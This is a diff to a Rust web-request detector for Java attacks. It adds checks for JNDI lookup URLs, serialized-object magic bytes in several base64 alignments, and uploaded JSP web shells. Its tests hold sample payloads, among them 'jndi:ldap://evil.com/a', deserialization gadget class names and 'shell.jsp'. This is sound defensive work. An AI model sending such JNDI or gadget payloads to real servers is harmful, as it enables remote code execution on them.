@@ -5,8 +5,8 @@
 use crate::{signal, Detector};
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};
 use palisade_normalize::classes as bc;
-use palisade_normalize::Value;
-use palisade_types::{Category, Signal};
+use palisade_normalize::{ByteClasses, Value};
+use palisade_types::{Category, PlaceKind, Signal};
 use std::sync::LazyLock;
 
 pub struct Java;
@@ -76,7 +76,7 @@ static CLASSES: LazyLock<AhoCorasick> = LazyLock::new(|| {
 });
 
 impl Java {
-    fn check(text: &str) -> Option<(f32, &'static str)> {
+    fn check(text: &str, place: PlaceKind, classes: ByteClasses) -> Option<(f32, &'static str)> {
         let b = text.as_bytes();
         if b.contains(&b'$') && text.contains("${") {
             let resolved = resolve_lookups(text).to_ascii_lowercase();
@@ -84,13 +84,16 @@ impl Java {
                 return Some((0.95, "JNDI lookup"));
             }
         }
-        let t = text.trim_start();
-        if t.starts_with("rO0AB")
-            || t.starts_with("\u{ac}\u{ed}\0\u{5}")
-            || t.get(..8)
-                .is_some_and(|h| h.eq_ignore_ascii_case("aced0005"))
-        {
+        if serialized(text, place, classes) {
             return Some((0.85, "serialized Java object"));
+        }
+        // A JNDI URL is the payload itself, with or without the `${…}` around it (an
+        // HTML-decoding sink or a stripped brace leaves `jndi:ldap://…`).
+        if b.len() >= 10 && classes.any(bc::COLON) && memchr::memmem::find(b, b"ndi:").is_some() {
+            let lower = text.to_ascii_lowercase();
+            if JNDI_URL.is_match(&lower) {
+                return Some((0.9, "JNDI URL"));
+            }
         }
         if CLASSES.is_match(text) {
             return Some((0.85, "Java exploit class"));
@@ -100,6 +103,72 @@ impl Java {
         }
         None
     }
+}
+
+/// `jndi:` and a naming scheme Log4j and JNDI resolve remotely.
+static JNDI_URL: LazyLock<regex::Regex> = LazyLock::new(|| {
+    regex::Regex::new(r"jndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?):/")
+        // A constant pattern: compiling it cannot fail.
+        .unwrap_or_else(|_| unreachable!())
+});
+
+/// A serialized Java object: its stream magic `AC ED 00 05` raw, in hex, or in base64 at
+/// any of the three byte alignments (`rO0AB`, `KztAAU`, `Cs7QAF`: how it reads when one
+/// or two bytes precede it). Base64 forms count at the start of a token only, where a
+/// payload begins; five or six fixed characters there do not occur by chance.
+fn serialized(text: &str, place: PlaceKind, classes: ByteClasses) -> bool {
+    // The value's start, by its first byte (this runs for every value).
+    let t = text.as_bytes().trim_ascii_start();
+    let at_start = match t.first() {
+        Some(0xc2) => t.starts_with("\u{ac}\u{ed}".as_bytes()),
+        Some(b'a' | b'A') => t
+            .get(..8)
+            .is_some_and(|h| h.eq_ignore_ascii_case(b"aced0005")),
+        Some(b'r' | b'K' | b'C') => {
+            [&b"rO0AB"[..], b"KztAAU", b"Cs7QAF"]
+                .iter()
+                .any(|m| t.starts_with(m))
+                && !t.contains(&b'<')
+        }
+        _ => false,
+    };
+    if at_start {
+        return true;
+    }
+    // A payload is a whole value (a parameter, a JSON leaf, an XML text), or it follows
+    // `=`, `:`, a quote or a line break in a value nothing split further (a text body, a
+    // multipart part, a header): elsewhere the value's start was all to look at.
+    let unsplit = matches!(
+        place,
+        PlaceKind::Body | PlaceKind::Multipart | PlaceKind::Header | PlaceKind::Cookie
+    );
+    if !unsplit || !classes.any(bc::EQ | bc::COLON | bc::SQUOTE | bc::DQUOTE | bc::NEWLINE) {
+        return false;
+    }
+    let b = text.as_bytes();
+    // Each magic has a byte rare in text at a fixed offset (`O`, `z`, `Q`): memchr finds the
+    // candidates, most values have none.
+    memchr::memchr3_iter(b'O', b'z', b'Q', b).any(|hit| {
+        let (magic, offset): (&[u8], usize) = match b[hit] {
+            b'O' => (b"rO0AB", 1),
+            b'z' => (b"KztAAU", 1),
+            _ => (b"Cs7QAF", 3),
+        };
+        let Some(at) = hit.checked_sub(offset) else {
+            return false;
+        };
+        if !b[at..].starts_with(magic) {
+            return false;
+        }
+        let starts = at == 0
+            || !(b[at - 1].is_ascii_alphanumeric() || matches!(b[at - 1], b'+' | b'/' | b'<'));
+        // A markup name (`<rO0ABQ …>`, `rO0ABQ="…"`) is no payload.
+        let token_end = b[at..]
+            .iter()
+            .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/')))
+            .map_or(b.len(), |n| at + n);
+        starts && !b[token_end..].starts_with(b"=\"")
+    })
 }
 
 /// What [`dotted`] looks for, as one automaton: most dotted values (versions, host names,
@@ -179,20 +248,48 @@ fn dotted(text: &str) -> Option<(f32, &'static str)> {
     best
 }
 
+/// A file name the servlet container compiles and runs (`a.jsp`, `shell. jspx`).
+fn uploads_jsp(value: &Value) -> bool {
+    crate::uploaded_extension(value).is_some_and(|ext| {
+        matches!(
+            ext.as_str(),
+            "jsp" | "jspx" | "jspf" | "jsw" | "jsv" | "jtml"
+        )
+    })
+}
+
 impl Detector for Java {
     fn name(&self) -> &'static str {
         "java"
     }
 
     fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
-        // Lookups need '$', class names '.', serialized objects start with r/a/A/0xAC.
-        let first = value.text().trim_start().as_bytes().first().copied();
-        if !value.classes.any(bc::DOLLAR | bc::DOT)
-            && !matches!(first, Some(b'r' | b'a' | b'A' | 0xc2))
-        {
+        // An uploaded JSP is a web shell wherever the servlet container serves it.
+        if value.classes.any(bc::DOT) && uploads_jsp(value) {
+            out.push(signal(
+                "java",
+                Category::JavaInjection,
+                0.9,
+                value,
+                value.text(),
+            ));
             return;
         }
-        if let Some((c, _)) = Java::check(value.text()) {
+        // Lookups need '$', class names and JNDI URLs '.' or ':'; without them only a
+        // serialized object can be there.
+        if !value.classes.any(bc::DOLLAR | bc::DOT | bc::COLON) {
+            if serialized(value.text(), value.place.kind, value.classes) {
+                out.push(signal(
+                    "java",
+                    Category::JavaInjection,
+                    0.85,
+                    value,
+                    value.text(),
+                ));
+            }
+            return;
+        }
+        if let Some((c, _)) = Java::check(value.text(), value.place.kind, value.classes) {
             out.push(signal(
                 "java",
                 Category::JavaInjection,
@@ -232,6 +329,11 @@ mod tests {
         for s in [
             "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
             "aced00057372",
+            "KztAAU",
+            "Cs7QAFzAAB",
+            "\u{ac}\u{ed}\u{5}",
+            "jndi:ldap://evil.com/a",
+            "$&lbracejndi:rmi://evil.com/a}",
             "java.lang.Runtime",
             "org.apache.commons.collections.functors.InvokerTransformer",
             "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
@@ -242,12 +344,40 @@ mod tests {
     }
 
     #[test]
+    fn uploads_and_serialized_bodies_are_caught_by_place() {
+        use palisade_types::{Place, PlaceKind};
+        let flags = |kind, name: &str, text: &str| {
+            let v = Value::new(Place::new(kind, name), text.to_string(), 3);
+            let mut out = Vec::new();
+            Java.inspect(&v, &mut out);
+            out.iter().any(|s| s.confidence >= 0.7)
+        };
+        assert!(flags(PlaceKind::Filename, "file", "shell.jsp"));
+        assert!(flags(PlaceKind::Filename, "file", "shell. jspx"));
+        assert!(flags(PlaceKind::Header, "X-Filename", "a.JSP"));
+        assert!(!flags(PlaceKind::Filename, "file", "notes.json"));
+        assert!(!flags(PlaceKind::QueryValue, "page", "index.jsp"));
+        // Inside a text body or a multipart part, after `=` or a quote.
+        assert!(flags(PlaceKind::Body, "", "test=rO0ABQ"));
+        assert!(flags(
+            PlaceKind::Multipart,
+            "payload",
+            "{\"KztAAU\": \"test\"}"
+        ));
+        assert!(!flags(PlaceKind::Body, "", "<rO0ABQ a=\"b\">v</rO0ABQ>"));
+    }
+
+    #[test]
     fn templates_prices_and_prose_stay_clean() {
         for s in [
             "Hello ${name}, your order ${order.id} shipped",
             "Price: ${price}",
             "We run Java in production; the runtime is fast",
             "rO0 is not base64 of anything special",
+            "token=aGVsbG8rO0ABxyz",
+            "<rO0ABQ a=\"b\">v</rO0ABQ>",
+            "<e KztAAU=\"v\"/>",
+            "the jndi: prefix names a lookup",
         ] {
             assert!(!hit(s), "false positive: {s}");
         }
